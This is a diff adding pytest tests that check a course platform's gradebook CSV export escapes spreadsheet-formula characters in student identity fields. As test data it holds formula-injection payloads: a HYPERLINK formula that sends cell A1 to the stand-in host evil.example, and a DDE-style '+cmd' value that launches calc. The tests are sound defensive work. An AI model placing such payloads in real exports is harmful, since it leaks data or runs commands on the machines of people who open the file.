@@ -128,3 +128,48 @@ def test_students_cannot_export(client, course, student):
     client.force_login(student)
     assert client.get(f"/instructor/courses/{course.slug}/export/").status_code == 404
     assert Attempt.objects.count() == 0
+
+
+@pytest.mark.parametrize("layout", [exports.CANVAS, exports.MOODLE])
+def test_formula_like_identities_are_written_as_text(
+    course, student, demo_question, make_paper, layout
+):
+    """R3: a name/email/external id a spreadsheet would run as a formula gets a leading
+    quote; grade cells stay plain numbers."""
+    paper = make_paper("Mock exam", minutes=None)
+    student.first_name = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    student.last_name = ""
+    student.email = "+cmd|' /C calc'!A0@x.org"
+    student.save()
+    Membership.objects.filter(user=student).update(external_id="@SUM(1+1)")
+    attempt = exam_services.attempt_start_paper(student=student, paper=paper, mode="practice")
+    answer_and_mark(
+        attempt=attempt, student=student, question=demo_question, y_right=True, loss_right=True
+    )
+    rows = _rows(_csv(course, layout, paper=paper))
+    identity = len(layout.identity_headers)
+    row = next(r for r in rows[1:] if r[0] != "Points Possible" and "HYPERLINK" in "".join(r))
+    cells = [c for r in rows[1:] for c in r[:identity]]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")" in row
+    assert "'@SUM(1+1)" in row
+    assert layout is exports.CANVAS or "'+cmd|' /C calc'!A0@x.org" in row
+    assert row[-1] == "2"
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Ada Lovelace", "Ada Lovelace"),
+        ("", ""),
+        ("a=b", "a=b"),
+    ],
+)
+def test_text_cell(value, written):
+    assert exports.text_cell(value) == written
